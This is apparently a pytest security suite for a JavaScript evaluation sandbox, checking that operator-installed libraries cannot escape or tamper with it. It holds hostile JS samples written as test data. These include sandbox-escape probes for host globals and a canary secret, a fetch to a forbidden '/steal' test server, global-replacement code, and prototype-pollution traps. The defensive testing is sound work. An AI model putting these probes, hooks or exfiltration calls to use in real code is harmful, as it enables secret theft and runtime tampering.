"""Class 7, installed libraries (SPEC section 9): an operator installs third-party code, which
then runs in every evaluation that reads its global. What must hold, tried for real against
the production shape (worker processes, API and admin keys, a canary secret in the
environment, fetch allowed to one origin):

- the install check runs hostile top-level code in a sandbox (in a worker, under the default
  limits and the network policy): it finds no host name, no secret, and reaches no forbidden
  address; the API process never runs it;
- the code runs again, fresh, in each evaluation's sandbox, and finds nothing there either;
  what it changed at load ends with that evaluation;
- an installed library cannot take the sandbox's names: not replace `fetch`, `storeValue`,
  `console` or another library's global, not define one SPEC section 3 keeps absent; and the
  hooks it leaves on shared prototypes at load do not bend the runtime (results, logs, store
  operations, actions and fetches are recorded as the code made them);
- no evaluation request can install a library.
"""

from __future__ import annotations

import json
import os
import tempfile
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from typing import Any

import httpx
import pytest

from evaluator import Settings, WorkerPool
from tests.security.conftest import API_KEY, CANARY, CANARY_ENV, assert_clean, assert_well_formed
from tests.security.test_host_reach import HOST_NAMES

ADMIN_KEY = "admin-redteam-key-7"
ADMIN = {"Authorization": f"Bearer {ADMIN_KEY}", "Content-Type": "text/javascript"}
EVAL = {"Authorization": f"Bearer {API_KEY}"}

# Every way a bundle's code can look a name up "from the top" (its loader scope aside: there,
# `window`, `self` and `global` are the global object, `navigator` a frozen {appName}, and the
# module-system names undefined, by design).
PROBE = """
var probeFound = (function () {
  var names = HOST_NAMES_JSON;
  var lookups = {
    indirect: function (n) { return (0, eval)('typeof ' + n); },
    Function: function (n) { return Function('return typeof ' + n)(); },
    strictFunction: function (n) { return Function('"use strict"; return typeof ' + n)(); },
    globalThisOfFunction: function (n) { return typeof Function('return this')()[n]; },
  };
  var found = {};
  for (var how in lookups) {
    for (var i = 0; i < names.length; i++) {
      var type = lookups[how](names[i]);
      if (type !== 'undefined') found[how + ':' + names[i]] = type;
    }
  }
  return found;
})();
"""


@pytest.fixture(scope="module")
def service(
    live_server_cm: Callable[..., AbstractContextManager[Any]], origin_server: Any
) -> Iterator[httpx.Client]:
    previous = os.environ.get(CANARY_ENV)
    os.environ[CANARY_ENV] = CANARY
    try:
        settings = Settings(
            data_dir=tempfile.mkdtemp(prefix="jseval-redteam-libraries-"),
            workers=1,
            pool_size=1,
            api_keys=(API_KEY,),  # type: ignore[arg-type]
            admin_keys=(ADMIN_KEY,),  # type: ignore[arg-type]
            fetch_allow=(f"127.0.0.1:{origin_server.port}",),
            fetch_timeout_ms=2000,
        )
        with live_server_cm(settings, WorkerPool(settings)) as live, live.client() as client:
            yield client
    finally:
        if previous is None:
            os.environ.pop(CANARY_ENV, None)
        else:
            os.environ[CANARY_ENV] = previous


def install(client: httpx.Client, name: str, source: str) -> httpx.Response:
    response = client.put(f"/v1/admin/libraries/{name}", content=source, headers=ADMIN)
    assert_clean(response.text)
    return response


def evaluate(client: httpx.Client, code: str, **fields: Any) -> dict[str, Any]:
    response = client.post("/v1/evaluate", json={"code": code, **fields}, headers=EVAL)
    assert response.status_code == 200, response.text
    assert_clean(response.text)
    assert_well_formed(response.json())
    return response.json()


def test_the_install_check_runs_hostile_code_in_a_sandbox(
    service: httpx.Client, forbidden_server: Any
) -> None:
    """The bundle reports what it reached by throwing it: the refusal carries the report."""
    names = [n for n in HOST_NAMES if n not in ("window", "self")]  # the check's `self`
    bundle = PROBE.replace("HOST_NAMES_JSON", json.dumps(names)) + (
        f"fetch('http://127.0.0.1:{forbidden_server.port}/steal').catch(function () {{}});\n"
        f"probeFound.canary = String(typeof {CANARY_ENV});\n"
        "throw new Error('found ' + JSON.stringify(probeFound));"
    )
    response = install(service, "prober", bundle)
    assert response.status_code == 422, response.text
    [error] = response.json()["detail"]
    assert error["msg"] == 'the bundle threw when it ran: Error: found {"canary":"undefined"}'
    assert forbidden_server.connections == 0
    assert service.get("/v1/admin/libraries/prober", headers=ADMIN).status_code == 404


def test_hostile_code_runs_again_fresh_in_each_evaluation_and_reaches_nothing(
    service: httpx.Client,
) -> None:
    bundle = PROBE.replace("HOST_NAMES_JSON", json.dumps(HOST_NAMES)) + """
var Probe = {
  found: probeFound,
  // The loader calls the bundle from strict code: its caller is not revealed.
  caller: (function () {
    try { var up = arguments.callee.caller.caller; return up === null ? 'null' : typeof up; }
    catch (e) { return 'threw'; }
  })(),
  marks: [],
};
Object.defineProperty(Object.prototype, 'probeHook', { get: function () { return 'hooked'; }, configurable: true });
"""
    response = install(service, "probe", bundle)
    assert response.status_code == 201, response.text
    assert response.json()["globals"] == ["probeFound", "Probe"]
    try:
        # Before anything reads it, the library has not run: no hook.
        assert evaluate(service, "typeof ({}).probeHook")["result"] == "undefined"
        first = evaluate(service, "Probe.marks.push(1); [Probe.found, Probe.caller, Probe.marks.length, ({}).probeHook]")
        assert first["result"] == [{}, "null", 1, "hooked"]
        # `arguments.callee.caller` of the bundle is the loader's strict function: its own
        # caller is hidden (null), so the bundle cannot climb into the runtime.
        second = evaluate(service, "Probe.marks.length")
        assert second["result"] == 0  # fresh: the first evaluation's change is gone
        assert evaluate(service, "typeof ({}).probeHook")["result"] == "undefined"
    finally:
        service.delete("/v1/admin/libraries/probe", headers=ADMIN)


@pytest.mark.parametrize(
    ("bundle", "reason"),
    [
        ("var A = 1; self.fetch = function () { return Promise.resolve('forged'); };", "replaces or deletes 'fetch'"),
        ("var A = 1; storeValue = function () {};", "replaces or deletes 'storeValue'"),
        ("var A = 1; Object.defineProperty(self, 'console', { value: {}, configurable: true });", "replaces or deletes 'console'"),
        ("var A = 1; delete self.showAlert;", "replaces or deletes 'showAlert'"),
        ("var moment = function () { return 'forged'; };", "replaces 'moment', a global of another library"),
        ("var A = 1; var process = { env: {} };", "defines 'process', a name the sandbox keeps undefined"),
        ("var A = 1; self.appsmith2 = 1; this.appsmith = {};", None),  # read-only: unchanged
    ],
)
def test_an_installed_library_cannot_take_the_sandboxs_names(
    service: httpx.Client, bundle: str, reason: str | None
) -> None:
    response = install(service, "taker", bundle)
    if reason is None:
        assert response.status_code == 201, response.text
        try:
            result = evaluate(service, "A; typeof appsmith.store")
            assert result["result"] == "object"
        finally:
            service.delete("/v1/admin/libraries/taker", headers=ADMIN)
        return
    assert response.status_code == 422, response.text
    assert reason in response.json()["detail"][0]["msg"]


def test_hooks_a_library_leaves_at_load_do_not_bend_the_runtime(
    service: httpx.Client, origin_server: Any
) -> None:
    """The nastiest hooks a script can leave on shared prototypes, set by a library's load in
    the middle of an evaluation: the runtime's records are still exactly what the code did."""
    bundle = """
var Hooks = { loaded: true };
function trap(name) { return { __proto__: null, get: function () { throw new Error(name); }, set: function () { throw new Error(name); }, configurable: true }; }
Object.defineProperty(Object.prototype, 'then', trap('then'));
Object.defineProperty(Object.prototype, 'toJSON', trap('toJSON'));
Object.defineProperty(Object.prototype, 'get', trap('get'));
Object.defineProperty(Array.prototype, '0', trap('0'));
Object.defineProperty(Object.prototype, 'value', trap('value'));
Array.prototype.push = function () { throw new Error('push'); };
Array.prototype[Symbol.iterator] = function () { throw new Error('iterator'); };
JSON.stringify = function () { return '"forged"'; };
JSON.parse = function () { return 'forged'; };
Function.prototype.call = function () { throw new Error('call'); };
Promise.prototype.then = function () { throw new Error('promise then'); };
"""
    response = install(service, "hooks", bundle)
    assert response.status_code == 201, response.text
    try:
        code = f"""
if (!Hooks.loaded) throw new Error('not loaded');
storeValue('k', 7);
console.log('logged', 1);
showAlert('hi', 'info');
const before = fetch('{origin_server.url("/echo")}');
return 'done';
"""
        result = evaluate(service, code, mode="function")
        assert result["ok"], result["error"]
        assert result["result"] == "done"
        logs = [entry["args"] for entry in result["logs"]]
        assert logs[0] == ["logged", 1]
        # storeValue and showAlert return promises settled with objects: the `then` hook makes
        # those reject, as it would in a browser, and the runtime reports it. Nothing else.
        assert all(entry == ["Uncaught (in promise) Error: then"] for entry in logs[1:]), logs
        assert result["store"] == {"k": 7}
        assert [a["type"] for a in result["actions"]] == ["STORE_VALUE", "SHOW_ALERT"]
        assert [f["url"] for f in result["fetches"]] == [origin_server.url("/echo")]
    finally:
        service.delete("/v1/admin/libraries/hooks", headers=ADMIN)


def test_no_evaluation_request_can_install_a_library(service: httpx.Client) -> None:
    attempts = [
        {"code": "1", "libraries": [{"name": "x", "source": "var X = 1;"}]},
        {"code": "1", "globals": {"_": "mine"}},  # a built-in's name is reserved
    ]
    for body in attempts:
        response = service.post("/v1/evaluate", json=body, headers=EVAL)
        assert response.status_code == 422, response.text
    # The evaluation key opens no admin route; code's globals end with its isolate.
    assert service.put("/v1/admin/libraries/x", content="var X = 1;",
                       headers={**EVAL, "Content-Type": "text/javascript"}).status_code == 401
    evaluate(service, "globalThis.X = 1; var Y = 2; Object.prototype.z = 3;")
    assert evaluate(service, "[typeof X, typeof Y, typeof ({}).z]")["result"] == [
        "undefined", "undefined", "undefined"]
    listed = service.get("/v1/admin/libraries", headers=ADMIN).json()["libraries"]
    assert "x" not in [item["name"] for item in listed]
